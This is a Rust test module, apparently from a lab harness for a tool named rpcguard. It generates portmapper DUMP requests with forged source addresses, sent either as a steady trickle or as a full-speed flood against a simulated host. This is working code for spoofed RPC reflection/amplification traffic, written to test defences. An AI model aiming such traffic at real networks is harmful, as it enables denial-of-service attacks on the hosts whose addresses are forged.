//! Requests with forged senders.

use std::{
    net::Ipv4Addr,
    sync::atomic::{AtomicBool, Ordering},
    thread,
    time::{Duration, Instant},
};

use anyhow::Result;
use rpcguard_tests::{
    lab::{Bounds, Flood, Flooded, PacketSocket, Sources},
    packet::{Frame, rpc},
};

use crate::town::{HOST, INTERFACE, Town, VICTIMS};

/// The first of [`VICTIMS`], and how many there are.
const FIRST_VICTIM: u32 = u32::from_be_bytes([198, 18, 0, 0]);
const VICTIM_COUNT: u32 = 1 << 17;

/// Sends at a steady rate, through a socket: portmappers answer what comes like that, while a burst
/// from [`flood`] mostly overflows their receive buffer.
pub(crate) fn trickle(
    town: &Town,
    rate: u64,
    time: Duration,
    stop: &AtomicBool,
) -> Result<Flooded> {
    let socket = PacketSocket::open(&town.attacker, INTERFACE)?;
    let begun = Instant::now();
    let mut sent = Flooded::default();
    while sent.elapsed < time && !stop.load(Ordering::Relaxed) {
        let due = (rate as f64 * sent.elapsed.as_secs_f64()) as u64;
        while sent.packets < due {
            // A prime step visits all of them in no visible order.
            let victim = (sent.packets as u32).wrapping_mul(7919) % VICTIM_COUNT;
            socket.send(&request(town, Ipv4Addr::from_bits(FIRST_VICTIM + victim)).build())?;
            sent.packets += 1;
        }
        thread::sleep(Duration::from_micros(200));
        sent.elapsed = begun.elapsed();
    }
    Ok(sent)
}

/// Sends as fast as one core can.
pub(crate) fn flood(town: &Town, time: Duration, stop: &AtomicBool) -> Result<Flooded> {
    let request = request(town, Ipv4Addr::from_bits(FIRST_VICTIM)).build();
    let sources = Sources::any_of(VICTIMS.parse()?);
    let bounds = Bounds {
        packets: u64::MAX,
        time,
        rate: None,
    };
    Flood::new(&town.attacker, INTERFACE, request, sources)?.run(bounds, stop)
}

/// The length of a request on the wire, in bytes.
pub(crate) fn request_len(town: &Town) -> u64 {
    request(town, HOST).build().len() as u64
}

/// Forty bytes that ask for the list of all services.
fn request(town: &Town, sender: Ipv4Addr) -> Frame {
    const VERSION: u32 = 3;
    const DUMP: u32 = 4;
    Frame::ethernet()
        .to_mac(town.host_mac)
        .ipv4(sender)
        .to_v4(HOST)
        .udp_from(40_000, 111)
        .payload(&rpc::call(VERSION, DUMP))
}
